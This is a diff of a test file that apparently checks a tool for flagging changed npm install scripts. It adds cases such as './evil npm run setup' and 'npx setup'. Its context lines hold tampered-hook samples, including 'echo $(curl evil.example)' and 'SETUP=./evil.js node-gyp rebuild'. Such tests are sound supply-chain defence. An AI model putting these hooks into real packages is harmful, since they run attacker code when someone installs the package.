@@ -116,6 +116,7 @@ it.each([
   ["node-gyp rebuild", "SETUP=./evil.js node-gyp rebuild"],
   ["node-gyp rebuild", "PATH=evil node-gyp rebuild"],
   ["node install.js", "echo $(curl evil.example)"],
+  ["run-it --jobs 2", "run-it --jobs evil"],
 ])("%j does something else as %j", (before, after) => {
   expect(change({ install: before }, { install: after })).toBe("other");
 });
@@ -180,6 +181,36 @@ it.each<[string, Scripts, Scripts, string]>([
     { install: "npm run a", a: "npm run b", b: "npm run a" },
     { install: "npm run a", a: "npm run b", b: "npm run a && node c" },
     "other",
+  ],
+  [
+    "a program in front of the one that runs it",
+    { install: "npm run setup", setup: "node a" },
+    { install: "./evil npm run setup", setup: "node a" },
+    "other",
+  ],
+  [
+    "a file that is called as the script",
+    { install: "npm run setup", setup: "node a" },
+    { install: "node setup", setup: "node a" },
+    "other",
+  ],
+  [
+    "a package that is called as the script",
+    { install: "npm run setup", setup: "node a" },
+    { install: "npx setup", setup: "node a" },
+    "other",
+  ],
+  [
+    "a command of npm in place of run",
+    { install: "npm run setup", setup: "node a" },
+    { install: "npm exec setup", setup: "node a" },
+    "other",
+  ],
+  [
+    "a script that is called as the file",
+    { install: "node build", build: "tsc" },
+    { install: "node build", build: "esbuild" },
+    "none",
   ],
   ["the same, put where it is called", { install: "npm run setup", setup: "node a" }, { install: "node a" }, "none"],
   [
